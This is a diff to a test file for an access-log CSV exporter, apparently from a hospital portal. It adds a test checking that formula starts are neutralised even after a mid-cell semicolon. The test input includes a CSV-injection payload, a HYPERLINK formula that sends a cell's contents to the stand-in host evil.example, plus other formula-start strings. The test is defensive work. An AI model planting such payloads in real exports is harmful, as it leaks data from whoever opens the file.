@@ -1,3 +1,4 @@
+import { formulaStarts } from '@portalflow/engine/text';
 import { describe, expect, it } from 'vitest';
 import { type AccessRow, accessRowsToCsv, nextSort, sortAccessRows } from '../src/audit/accessLog.ts';
 
@@ -98,6 +99,18 @@ describe('accessRowsToCsv', () => {
   it('names the break-glass grant and its reason on rows that relied on one', () => {
     const csv = accessRowsToCsv([row(1, { emergencyAccessId: 'g-1', emergencyReason: 'Code blue, bed 4' })]);
     expect(csv.trimEnd().split('\n')[1]).toMatch(/,g-1,"Code blue, bed 4"$/);
+  });
+
+  it('leaves no formula anywhere, not even after a ";" mid-cell (European list separator)', () => {
+    const csv = accessRowsToCsv([
+      row(1, {
+        emergencyAccessId: 'g-1',
+        emergencyReason: 'Code blue;=HYPERLINK("http://evil.example/?"&A1)',
+        detail: 'x\t+1|@SUM(A1)',
+      }),
+    ]);
+    expect(csv).toContain('HYPERLINK');
+    expect(formulaStarts(csv)).toBe(false);
   });
 
   it('writes only the header for no rows', () => {
